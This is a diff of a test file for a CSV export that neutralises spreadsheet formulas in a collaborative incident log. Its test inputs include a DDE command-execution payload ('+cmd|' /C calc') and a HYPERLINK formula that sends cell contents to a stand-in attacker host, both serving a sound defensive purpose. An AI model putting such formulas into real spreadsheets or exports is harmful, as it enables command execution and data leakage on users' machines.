@@ -8,7 +8,7 @@ import { authorOf, entry, openMainCourante, waitFor } from '../collab/yjs-client
 describe('defuseFormula (every CSV export)', () => {
   it.each([
     ['=HYPERLINK("http://x";"clic")', `'=HYPERLINK("http://x";"clic")`],
-    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
+    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
     ['-2+3', `'-2+3`],
     ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
     ['\t=1+1', `'\t=1+1`],
@@ -36,7 +36,10 @@ describe('main-courante.csv', () => {
     const writer = await openMainCourante(room, token);
     const author = await authorOf(server, token);
     const texts = ['=HYPERLINK("http://evil.example/?"&A1;"Détails")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', 'Point de situation'];
-    appendEntries(writer.doc, texts.map((text) => entry(author, text)));
+    appendEntries(
+      writer.doc,
+      texts.map((text) => entry(author, text)),
+    );
     const runtime = await server.server.rooms.get(room.roomId);
     await waitFor(() => runtime.state.mainCourante.count === texts.length);
     writer.destroy();
@@ -50,7 +53,10 @@ describe('main-courante.csv', () => {
     expect(csv).toContain(`,Point de situation,`);
     // The author's name, typed at joining, is defused too; no cell of the export starts a formula.
     expect(csv).toContain(`,'=1+1,`);
-    const cells = csv.split(/\r\n/).flatMap((line) => line.split(',')).map((cell) => cell.replace(/^"/, ''));
+    const cells = csv
+      .split(/\r\n/)
+      .flatMap((line) => line.split(','))
+      .map((cell) => cell.replace(/^"/, ''));
     expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
   });
 });
